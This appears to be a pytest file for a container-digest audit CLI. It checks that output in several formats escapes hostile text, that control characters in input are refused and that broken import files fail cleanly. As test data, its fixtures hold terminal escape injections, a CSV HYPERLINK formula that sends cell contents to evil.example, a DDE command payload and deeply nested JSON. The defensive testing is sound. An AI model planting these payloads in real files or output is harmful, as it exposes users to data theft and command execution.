"""The CLI on hostile and broken local files: output is escaped, bad input is refused, nothing is half-written.

A trust file may hold text recorded before control characters were refused, or edited by hand; import files
come from CI history exports. None of it may reach a terminal, a Markdown page or a spreadsheet as anything but
text, and a broken file is a clear error naming it, never a traceback.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from audit.adapters.file_store import FileTrustStore
from audit.cli.check import _table as check_table
from audit.models import utcnow
from audit.records import TrustedImage
from tests.support.cli_runner import CliResult, CliRunner

DIGEST = "sha256:" + "ab" * 32
FORGING_SOURCE = "https://ci.example/run/1\x1b[2J\x1b]0;pwned\x07|`rm`\n| forged | row |\x9b31m"
FORMULA_SOURCE = '=HYPERLINK("https://evil.example/?"&A1,"open")'
RAW_CONTROLS = ("\x1b", "\x07", "\x9b", "\r")


@pytest.fixture
def cli(files_cli: CliRunner) -> CliRunner:
    """The CLI with no table, topic or registry: only local files."""
    return files_cli


@pytest.fixture
def hostile_trust_file(tmp_path: Path) -> Path:
    """Records as a hand edit or an older version could have left them (the store itself does not judge text)."""
    path = tmp_path / "trusted.json"
    store = FileTrustStore(path)
    for tag, source in (("1.0", FORGING_SOURCE), ("2.0", FORMULA_SOURCE)):
        store.record(
            TrustedImage(
                registry="ghcr.io",
                repository="org/app",
                tag=tag,
                digest=DIGEST,
                source=source,
                commit="-cmd|' /C calc'!A0" if tag == "2.0" else None,
                recorded_at=utcnow(),
            )
        )
    return path


def assert_no_raw_controls(text: str) -> None:
    for char in RAW_CONTROLS:
        assert char not in text, f"raw {char!r} in output"


# --- output: escaped for each sink --------------------------------------------------------------------------


def test_report_table_shows_controls_escaped_and_one_line_per_tag(cli: CliRunner, hostile_trust_file: Path) -> None:
    result = cli("report", "--trust-file", hostile_trust_file)
    assert result.code == 0
    assert_no_raw_controls(result.out)
    lines = result.out.splitlines()
    assert len(lines) == 3  # header + two tags: the newline in the source forged no row
    assert "https://ci.example/run/1\\x1b[2J\\x1b]0;pwned\\x07|`rm`\\x0a| forged | row |\\x9b31m" in lines[1]


def test_report_markdown_cells_cannot_end_the_cell_or_open_code(cli: CliRunner, hostile_trust_file: Path) -> None:
    result = cli("report", "--trust-file", hostile_trust_file, "--format", "markdown")
    assert result.code == 0
    assert_no_raw_controls(result.out)
    lines = [line for line in result.out.splitlines() if line.startswith("|")]
    assert len(lines) == 4  # header, separator, two rows: the newline in the source forged no row
    [row] = [line for line in lines if "forged" in line]
    # Markdown source: `|` and backticks escaped, and the backslash of each visible escape doubled so it renders.
    assert "\\|\\`rm\\`\\\\x0a\\| forged \\| row \\|\\\\x9b31m" in row
    unescaped_pipes = row.replace("\\|", "").count("|")
    assert unescaped_pipes == lines[0].count("|")  # exactly the table's own column separators


def test_report_csv_neutralises_formulas(cli: CliRunner, hostile_trust_file: Path) -> None:
    result = cli("report", "--trust-file", hostile_trust_file, "--format", "csv")
    assert result.code == 0
    assert_no_raw_controls(result.out)
    rows = list(csv.DictReader(io.StringIO(result.out)))
    assert [row["tag"] for row in rows] == ["1.0", "2.0"]
    assert rows[1]["source"] == "'" + FORMULA_SOURCE
    assert rows[1]["commit"] == "'-cmd|' /C calc'!A0"
    assert rows[0]["source"].startswith("https://ci.example/run/1\\x1b")


def test_report_json_stays_exact_json(cli: CliRunner, hostile_trust_file: Path) -> None:
    result = cli("report", "--trust-file", hostile_trust_file, "--format", "json")
    assert result.code == 0
    assert_no_raw_controls(result.out)  # json.dumps escapes them as \u001b ...
    assert [row["source"] for row in json.loads(result.out)] == [FORGING_SOURCE, FORMULA_SOURCE]


def test_trust_export_csv_neutralises_formulas_and_escapes_controls(
    cli: CliRunner, hostile_trust_file: Path, tmp_path: Path
) -> None:
    result = cli("trust", "export", "--format", "csv", "--trust-file", hostile_trust_file)
    assert result.code == 0
    assert_no_raw_controls(result.out)
    rows = list(csv.DictReader(io.StringIO(result.out)))
    assert rows[1]["source"] == "'" + FORMULA_SOURCE
    # The export imports again: the formula comes back as the text it was, the controls as visible escapes.
    exported = tmp_path / "export.csv"
    exported.write_text(result.out, encoding="utf-8")
    copy = tmp_path / "copy.json"
    assert cli("trust", "import", exported, "--trust-file", copy).code == 0
    imported = {record.tag: record for record in FileTrustStore(copy).load_all()}
    assert imported["2.0"].source == FORMULA_SOURCE
    assert imported["2.0"].commit == "-cmd|' /C calc'!A0"
    assert imported["1.0"].source == FORGING_SOURCE.encode("unicode_escape").decode("ascii").replace("\\n", "\\x0a")


def test_trust_export_json_escapes_every_control_and_stays_exact(
    cli: CliRunner, hostile_trust_file: Path, tmp_path: Path
) -> None:
    result = cli("trust", "export", "--format", "json", "--trust-file", hostile_trust_file)
    assert result.code == 0
    assert_no_raw_controls(result.out)
    assert result.out.isascii()
    assert [entry["source"] for entry in json.loads(result.out)["trusted"]] == [FORGING_SOURCE, FORMULA_SOURCE]


# --- input: control characters refused ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("flag", "value"),
    [
        ("--source", "https://ci.example/run/1\n2024-01-01 forged line"),
        ("--source", "https://ci.example/run/1\x1b[2J"),
        ("--commit", "abc\x9bdef"),
        ("--recorded-by", "ci\u202ebot"),
        ("--reason", "re-release\x1b]8;;https://evil.example\x07"),
    ],
)
def test_record_refuses_control_characters(cli: CliRunner, tmp_path: Path, flag: str, value: str) -> None:
    trust_file = tmp_path / "trusted.json"
    args: list[str | Path] = ["record", f"ghcr.io/org/app:1.0@{DIGEST}", "--offline", "--trust-file", trust_file]
    if flag != "--source":
        args += ["--source", "https://ci.example/run/1"]
    if flag == "--reason":
        args.append("--replace")
    result = cli(*args, flag, value)
    assert result.code == 2
    assert result.out == ""
    assert result.err.startswith(f"digest-audit: error: {flag} contains a control or format character: ")
    assert "hint: give " in result.err
    assert_no_raw_controls(result.err)
    assert not trust_file.exists()


# --- broken files: a clear error naming the file, nothing changed ------------------------------------------


@pytest.fixture
def trust_file(tmp_path: Path) -> Path:
    path = tmp_path / "trusted.json"
    FileTrustStore(path).record(
        TrustedImage.model_validate(
            {
                "registry": "ghcr.io",
                "repository": "org/app",
                "tag": "0.1",
                "digest": DIGEST,
                "source": "ci",
                "recorded_at": utcnow(),
            }
        )
    )
    return path


ROW = f"ghcr.io,org/app,1.0,{DIGEST},https://ci.example/run/1,2024-05-01T12:00:00Z\n"
HEADER = "registry,repository,tag,digest,source,recorded_at\n"


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        (
            "latin1.csv",
            (HEADER + ROW + "ghcr.io,org/app,1.1,x,caf\xe9,y\n").encode("latin-1"),
            "line 3: not UTF-8 text",
        ),
        ("deep.json", b"[" * 100_000 + b"]" * 100_000, "not a trust document: the JSON is nested too deeply"),
        ("truncated.json", b'{"schema_version": 1, "trusted": [{"registry": "gh', "line 1, column 48: not valid JSON"),
        ("garbage.json", b"\x00\x01garbage", "line 1, column 1: not valid JSON"),
        ("garbage.csv", b"\x00\x01garbage\n", "line 1: unknown column"),
        (
            "late-bad-row.csv",
            (HEADER + ROW * 1 + ROW.replace("1.0", "1.1").replace(DIGEST, "sha256:x")).encode(),
            "line 3, field 'digest'",
        ),
    ],
)
def test_a_broken_import_file_is_named_and_changes_nothing(
    cli: CliRunner, tmp_path: Path, trust_file: Path, name: str, content: bytes, message: str
) -> None:
    source = tmp_path / name
    source.write_bytes(content)
    before = trust_file.read_bytes()
    result = cli("trust", "import", source, "--trust-file", trust_file)
    assert result.code == 2
    assert result.out == ""
    assert result.err.startswith(f"digest-audit: error: {source}: {message}"), result.err
    assert "Traceback" not in result.err
    assert trust_file.read_bytes() == before


def test_an_import_beyond_the_row_limit_is_refused(cli: CliRunner, tmp_path: Path, trust_file: Path) -> None:
    source = tmp_path / "many.csv"
    source.write_text(HEADER + "".join(ROW.replace("1.0", f"1.{n}") for n in range(5)), encoding="utf-8")
    before = trust_file.read_bytes()
    result = cli("trust", "import", source, "--trust-file", trust_file, "--max-rows", "4")
    assert result == CliResult(
        2,
        "",
        f"digest-audit: error: {source}: line 6: more than 4 records\n"
        "  hint: split the file, or raise the limit with --max-rows N (the import holds every tag name)\n",
    )
    assert trust_file.read_bytes() == before
    assert cli("trust", "import", source, "--trust-file", trust_file, "--max-rows", "5").code == 0
    assert len(FileTrustStore(trust_file).load_all()) == 6


def test_a_directory_or_a_missing_file_to_import_is_named(cli: CliRunner, tmp_path: Path, trust_file: Path) -> None:
    assert cli("trust", "import", tmp_path, "--format", "csv", "--trust-file", trust_file) == CliResult(
        2,
        "",
        f"digest-audit: error: cannot read {tmp_path}: it is a directory\n"
        "  hint: give the path of a CSV or JSON file\n",
    )
    missing = tmp_path / "missing.csv"
    assert cli("trust", "import", missing, "--trust-file", trust_file).err.startswith(
        f"digest-audit: error: cannot read {missing}: it does not exist"
    )


def test_trust_export_to_a_directory_is_named(cli: CliRunner, tmp_path: Path, trust_file: Path) -> None:
    result = cli("trust", "export", "-o", tmp_path, "--trust-file", trust_file)
    assert result.code == 2
    assert result.err.startswith(f"digest-audit: error: cannot write {tmp_path}: Is a directory")


@pytest.mark.parametrize(
    "content",
    [b"[" * 100_000, b'{"schema_version": 1, "trusted": [', b"\xff\xfe{}"],
    ids=["deep", "truncated", "not-utf8"],
)
def test_a_broken_trust_or_state_file_is_a_store_error_and_is_kept(
    cli: CliRunner, tmp_path: Path, trust_file: Path, content: bytes
) -> None:
    broken = tmp_path / "broken.json"
    broken.write_bytes(content)
    for args in (
        ("report", "--trust-file", broken),
        ("record", f"ghcr.io/org/app:9.9@{DIGEST}", "--source", "ci", "--offline", "--trust-file", broken),
        ("report", "--trust-file", trust_file, "--state-file", broken),
    ):
        result = cli(*args)
        assert result.code == 4, result
        assert result.err.startswith(f"digest-audit: error: {broken} "), result.err
        assert "hint: it must hold" in result.err
        assert "Traceback" not in result.err
        assert broken.read_bytes() == content


def test_check_table_escapes_what_a_registry_said() -> None:
    """The reason of an unverifiable tag quotes the registry; a hostile one must not reach the terminal raw."""
    row = {"reference": "ghcr.io/org/app:1.0", "status": "unverifiable", "live_digest": None}
    table = check_table([{**row, "reason": "HTTP 500: \x1b]8;;https://evil.example\x07click\x1b]8;;\x07\nFAKE row"}])
    assert_no_raw_controls(table)
    assert len(table.splitlines()) == 2
    assert "\\x1b]8;;https://evil.example\\x07click" in table
